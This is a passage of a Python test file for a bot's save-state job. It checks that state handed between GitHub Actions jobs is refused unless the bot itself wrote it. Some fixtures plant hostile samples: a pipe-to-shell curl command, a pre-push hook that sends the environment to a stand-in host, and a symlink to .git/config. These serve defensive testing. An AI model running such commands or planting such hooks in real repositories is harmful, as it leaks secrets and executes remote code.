    assert json.loads(world.remote_file("state/offset.json"))["offset"] == 500000009
    assert_token_nowhere(done.stdout, done.stderr)


def test_files_save_state_does_not_take_from_the_answer_job_are_left_as_the_branch_has_them(world: World, tmp_path: Path):
    (world.owner / "state" / "archive").mkdir(parents=True)
    (world.owner / "state" / "archive" / "2030.md").write_text("the owner's own notes\n")
    world.owner_pushes("state/README.md", "# what the bot remembers\n", "docs: state/README.md")
    answer = fresh_checkout(world, "answer")
    write_offset(answer, 500000009)
    (answer / "state" / "README.md").write_text("# rewritten by whatever ran in the answer job\n")
    (answer / "state" / "heartbeat.json").write_text('{"last_heartbeat": "2099-01-01"}\n')  # save-state's own file
    handed = handed_on(answer, tmp_path / "answered-state")
    shutil.rmtree(handed / "archive")  # not the bot's: its absence deletes nothing

    save_state(fresh_checkout(world, "save"), env={}, source=handed)

    assert git(world.remote, "show", "--name-only", "--format=", "main").splitlines() == ["state/offset.json"]
    assert world.remote_file("state/README.md") == "# what the bot remembers"
    assert world.remote_file("state/archive/2030.md") == "the owner's own notes"


def _symlink(state: Path) -> None:
    (state / "offset.json").unlink()
    (state / "offset.json").symlink_to("../../.git/config")


def _unknown_name(state: Path) -> None:
    (state / "run.sh").write_text("curl https://example.invalid | sh\n")


def _oversized(state: Path) -> None:
    from botjob.state_handover import MAX_JSON_BYTES

    with open(state / "usage.json", "wb") as file:  # sparse: as big as it says, cheap to make
        file.truncate(MAX_JSON_BYTES + 1)


def _not_json_offset(state: Path) -> None:
    (state / "offset.json").write_text("offset = 500000009\n")


def _folder_in_memory(state: Path) -> None:
    (state / "memory" / "hooks").mkdir(parents=True)
    (state / "memory" / "hooks" / "pre-push").write_text("#!/bin/sh\nenv | curl -d @- https://example.invalid\n")


def _memory_not_a_fernet_token(state: Path) -> None:
    (state / "memory").mkdir(exist_ok=True)
    (state / "memory" / f"{'ab' * 16}.bin").write_text("Alice said: meet me at noon\n")


@pytest.mark.parametrize(
    ("plant", "named"),
    [
        (_symlink, "'offset.json' as a link"),
        (_unknown_name, "'run.sh', which the bot never writes"),
        (_oversized, "'usage.json' of 4,194,305 bytes"),
        (_not_json_offset, "'offset.json', which is not what the bot writes there (not JSON)"),
        (_folder_in_memory, "'memory/hooks/pre-push', which the bot never writes"),
        (_memory_not_a_fernet_token, "not a Fernet token"),
    ],
    ids=["symlink", "unknown-name", "oversized", "offset-not-json", "folder-in-memory", "memory-in-plain-text"],
)
def test_a_state_that_is_not_the_bots_saves_nothing_and_says_so_in_one_line(
    world: World, tmp_path: Path, plant: Callable[[Path], None], named: str
):
    answer = fresh_checkout(world, "answer")
    write_offset(answer, 500000009)  # what the run really answered
    memory_of(answer).remember(111, "Alice's question", "the answer")
    handed = handed_on(answer, tmp_path / "answered-state")
    plant(handed)
    save = fresh_checkout(world, "save")
    before = git(world.remote, "rev-parse", "main")

    with pytest.raises(gitsync.BotjobError) as caught:
        save_state(save, env={}, source=handed)

    explained = caught.value.explain()
    assert named in explained and "nothing was saved" in explained and "\n" not in explained
    assert git(world.remote, "rev-parse", "main") == before
    assert git(save, "rev-parse", "HEAD") == before
    assert git(save, "status", "--porcelain") == ""  # not one file taken before the refusal


def test_a_real_memory_file_is_the_shape_save_state_expects():
    """The names and the token shape save-state checks are those ChatMemory writes (both rules live apart:
    save-state runs on the standard library alone, without the cryptography package)."""
    from botjob.memory import chat_key
    from botjob.state_handover import MEMORY_FILE, _is_fernet_token

    memory = memory_of(Path("/nonexistent"))
    for chat in (111, -1001234567890):
        assert MEMORY_FILE.fullmatch(memory.path(chat).name)
        assert MEMORY_FILE.fullmatch(f"{chat_key('secret', chat)}.bin")  # the older name, still read
    token = memory._fernet.encrypt_at_time(b"x" * 4096, 2_000_000_000)
    assert _is_fernet_token(token) and not _is_fernet_token(token[:-4]) and not _is_fernet_token(b"gAAAAA" + token[6:-8])


@pytest.mark.parametrize(
    ("days_old", "change", "expected"),
    [(0, False, "false"), (0, True, "true"), (50, False, "true")],
    ids=["idle", "state-changed", "heartbeat-due"],
)
def test_the_answer_job_says_whether_the_save_job_must_run(
    tmp_path: Path, make_world: Callable[..., World], days_old: float, change: bool, expected: str
):
    """`save-state --check` in the answer job: no token, nothing written; an idle run starts no save job."""
    world = make_world(days_old=days_old)
    if change:
        write_offset(world.runner, 500000009)
    outputs, event = tmp_path / "outputs", tmp_path / "event.json"
    event.write_text(json.dumps({"repository": {"private": False}}))
    env = {
        **os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent),
        "GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": str(outputs), "GITHUB_EVENT_PATH": str(event),
    }
    before = git(world.runner, "status", "--porcelain")

    done = subprocess.run(
        [sys.executable, "-S", "-m", "botjob", "save-state", "--check"], cwd=world.runner, env=env, capture_output=True, text=True
    )

    assert done.returncode == 0, done.stderr
    assert outputs.read_text() == f"save={expected}\n"
    assert git(world.runner, "status", "--porcelain") == before
    assert git(world.runner, "rev-parse", "HEAD") == git(world.remote, "rev-parse", "main")
